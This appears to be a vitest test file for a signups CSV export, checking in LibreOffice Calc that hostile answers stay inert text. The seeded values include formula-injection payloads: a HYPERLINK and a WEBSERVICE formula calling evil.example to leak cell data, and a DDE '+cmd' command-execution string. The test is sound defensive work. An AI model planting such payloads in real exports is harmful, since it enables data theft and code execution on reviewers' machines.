import { beforeAll, describe, expect, it } from "vitest";
import { exportSignups } from "../../lib/admin/signup-export";
import { parseSignupView } from "../../lib/admin/signup-view";
import type { StaffContext } from "../../lib/auth/staff-session";
import type { Db } from "../../lib/db/client";
import { getStaffMessages } from "../../lib/messages";
import { openCsvInCalc, type SheetCell } from "../support/libreoffice";
import { seedSignup, signedInStaff, signupRow } from "../support/list-signups";
import { sampleFields } from "../support/signup-samples";
import { staffAuthDatabase } from "../support/staff-auth";

// The signups CSV from real rows, opened in LibreOffice Calc with "Evaluate formulas" on: no
// cell runs as a formula, hostile answers arrive as text with the guard's ' in front, and a
// phone number reads exactly as the volunteer typed it.

const current = staffAuthDatabase();
let db: Db;
let reviewer: StaffContext;
const id: Record<string, string> = {};

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  ({ db } = current());
  reviewer = await signedInStaff(current().deps, "calc@example.org");
  const answers = signupRow({ role: "attorney", fields: sampleFields("attorney") }).answers as Record<
    string,
    unknown
  >;
  id.hostile = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-04-02T10:00:00Z"),
    fields: { email: "hostile@example.com" },
    answers: {
      ...answers,
      firstName: HYPERLINK,
      lastName: "@SUM(A1)",
      city: "-2+3",
      state: "+cmd|' /C calc'!A0",
      phone: "+1 505 555 0134",
      organization: "\t=1+1",
      anythingElse: '=WEBSERVICE("http://evil.example/")\n=2+2',
    },
  });
  id.plain = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-04-01T10:00:00Z"),
    fields: { firstName: "Ana", lastName: "Ixcoy", email: "ana@example.com", phone: "+1 (505) 555-0142" },
  });
  // A phone answer no form accepts, written straight into the row: guarded like any text.
  id.tampered = await seedSignup(db, {
    role: "attorney",
    createdAt: new Date("2026-04-03T10:00:00Z"),
    fields: { email: "tampered@example.com" },
    answers: { ...answers, phone: "+1+SUM(A1)" },
  });
  // One step done: its day stays the text it was written as, like the other days.
  await db.onboardingStep.create({
    data: { signupId: id.plain, stepKey: "conflictCheck", completedOn: new Date("2026-04-05T00:00:00Z") },
  });
});

describe("the CSV in LibreOffice Calc", () => {
  it("runs no cell as a formula, keeps hostile answers as text, and shows phones as typed", async () => {
    const { body } = exportSignups(
      db,
      reviewer,
      parseSignupView(new URLSearchParams("from=2026-04-01&to=2026-04-30&role=attorney&sort=oldest")),
      getStaffMessages(),
    );
    const started = Date.now();
    const sheet = await openCsvInCalc(new Uint8Array(await new Response(body).arrayBuffer()));
    expect(Date.now() - started).toBeLessThan(15_000);

    const [header, ...rows] = sheet as [SheetCell[], ...SheetCell[][]];
    const names = header.map((cell) => cell.text);
    expect(rows.map((row) => row[0]!.text)).toEqual([id.plain, id.hostile, id.tampered]);
    const [plain, hostile, tampered] = rows as [SheetCell[], SheetCell[], SheetCell[]];
    const cell = (row: SheetCell[], name: string) => row[names.indexOf(name)]!;

    // Nothing in the whole sheet is a formula.
    expect(sheet.flat().filter((c) => c.formula !== null)).toEqual([]);

    // Every cell is text but the counts, written as numbers so a spreadsheet adds them up (the
    // times are text too: Calc's default import leaves "special numbers" alone).
    const typed = new Map([
      ["Notes", "float"],
      ["Years in practice", "float"],
      ["Cases/year", "float"],
      ["Hours/month", "float"],
    ]);
    // Only Ana has a step done: its day, ISO 8601, Calc reads as a day (sortable, no formula).
    const typeOf = (row: SheetCell[], name: string) =>
      name.startsWith("Done: ")
        ? row === plain && name === "Done: Conflict check done"
          ? "date"
          : "empty"
        : (typed.get(name) ?? (EMPTY.has(name) ? "empty" : "string"));
    for (const row of rows) {
      const types = names.map((name, at) => [name, row[at]?.type ?? "empty"]);
      const expected = names.map((name) => [name, typeOf(row, name)]);
      expect(types).toEqual(expected);
    }

    expect(cell(hostile, "First name").text).toBe(`'${HYPERLINK}`);
    expect(cell(hostile, "Last name").text).toBe("'@SUM(A1)");
    expect(cell(hostile, "City").text).toBe("'-2+3");
    expect(cell(hostile, "State").text).toBe("'+cmd|' /C calc'!A0");
    expect(cell(hostile, "Organization").text).toBe("'=1+1");
    expect(cell(hostile, "Anything else").text).toBe('\'=WEBSERVICE("http://evil.example/")\n=2+2');
    expect(cell(hostile, "Phone")).toEqual({ type: "string", text: "+1 505 555 0134", formula: null });
    expect(cell(plain, "Phone")).toEqual({ type: "string", text: "+1 (505) 555-0142", formula: null });
    expect(cell(tampered, "Phone")).toEqual({ type: "string", text: "'+1+SUM(A1)", formula: null });
    expect(cell(plain, "Hours/month")).toEqual({ type: "float", text: "10", formula: null });
    expect(cell(plain, "Signed up (America/Denver)").text).toBe("2026-04-01 04:00:00");
    expect(cell(plain, "Done: Conflict check done")).toMatchObject({ type: "date", formula: null });
    expect(cell(plain, "Readiness").text).toBe("4 steps left");
  }, 60_000);
});

// The columns these rows leave empty: no status change, no assignee, no notes (and no
// onboarding step done: the "Done: …" columns).
const EMPTY = new Set(["Status changed (America/Denver)", "Assignee", "Last note (America/Denver)"]);
